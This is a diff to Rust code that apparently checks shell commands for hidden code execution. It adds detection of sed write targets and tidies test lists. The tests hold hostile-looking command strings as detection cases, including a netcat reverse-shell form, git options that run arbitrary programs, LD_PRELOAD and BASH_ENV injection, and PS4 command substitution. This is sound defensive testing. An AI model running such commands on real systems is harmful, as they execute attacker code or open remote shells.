@@ -238,6 +238,23 @@ fn list_sed_scripts(arguments: &[String]) -> impl Iterator<Item = &str> {
 
 /// Returns true if a sed script has the command `e`, or a substitution with the flag `e`.
 fn runs_in_sed(script: &str) -> bool {
+    scan_sed(script, |_| {})
+}
+
+/// Lists the files that the scripts of sed write: `w FILE`, `s/a/b/w FILE`.
+pub(super) fn list_sed_outputs(arguments: &[String]) -> Vec<String> {
+    let mut outputs = Vec::new();
+    for script in list_sed_scripts(arguments) {
+        scan_sed(script, |rest| {
+            let line = rest.split('\n').next().unwrap_or_default();
+            outputs.push(line.trim().to_owned());
+        });
+    }
+    outputs
+}
+
+/// Passes on the text after each `w`, and returns true at a command or flag `e`.
+fn scan_sed<'a>(script: &'a str, mut write: impl FnMut(&'a str)) -> bool {
     let mut rest = script;
     while let Some(c) = rest.chars().next() {
         let after = &rest[c.len_utf8()..];
@@ -258,9 +275,18 @@ fn runs_in_sed(script: &str) -> bool {
                 if c == 's' && known.contains('e') {
                     return true;
                 }
-                if known.len() < end { skip_line(flags) } else { &flags[end..] }
+                if known.len() < end {
+                    write(&flags[known.len() + 1..]);
+                    skip_line(flags)
+                } else {
+                    &flags[end..]
+                }
             }
-            'a' | 'c' | 'i' | 'r' | 'R' | 'w' | 'W' | '#' => skip_line(after),
+            'w' | 'W' => {
+                write(after);
+                skip_line(after)
+            }
+            'a' | 'c' | 'i' | 'r' | 'R' | '#' => skip_line(after),
             ':' | 'b' | 't' | 'T' => after.trim_start_matches(|c| c != ';' && c != '\n' && c != '}'),
             _ => after,
         };
@@ -335,6 +361,11 @@ mod tests {
             "sort --compress-program=./x y",
             "git clone 'ext::sh -c x'",
             "git fetch --upload-pack='sh -c x' y",
+            "git grep -O'sh x' foo",
+            "git grep --open-files-in-pager=./x foo",
+            "git difftool -x 'sh x' HEAD",
+            "git difftool -y --extcmd=./x HEAD",
+            "man -P 'sh -c x' ls",
             "mapfile -C 'rm -f' < x",
             "readarray -t -c1 -Cx a < y",
             "nc -e /bin/sh host 1",
@@ -361,11 +392,6 @@ mod tests {
             ("LD_PRELOAD=./x.so ls", "LD_PRELOAD"),
             ("BASH_ENV=x bash y", "BASH_ENV"),
             ("ENV=./x sh -i", "ENV"),
-            "git grep -O'sh x' foo",
-            "git grep --open-files-in-pager=./x foo",
-            "git difftool -x 'sh x' HEAD",
-            "git difftool -y --extcmd=./x HEAD",
-            "man -P 'sh -c x' ls",
             ("ENV='$(ls)' sh -i", "ENV"),
             ("PS4='$(ls)' bash -x y", "PS4"),
             ("export PS4='`ls`'; set -x; ls", "PS4"),
@@ -424,6 +450,9 @@ mod tests {
             "GIT_CONFIG_GLOBAL=/dev/null git log",
             "GIT_CONFIG_NOSYSTEM=1 git log",
             "git log --grep EDITOR=sh",
+            "git grep -O less",
+            "git clean -nx ./x",
+            "man -P less ls",
             "split -l 5 x",
             "alias",
             "alias ls",
@@ -439,6 +468,3 @@ mod tests {
         }
     }
 }
-            "git grep -O less",
-            "git clean -nx ./x",
-            "man -P less ls",
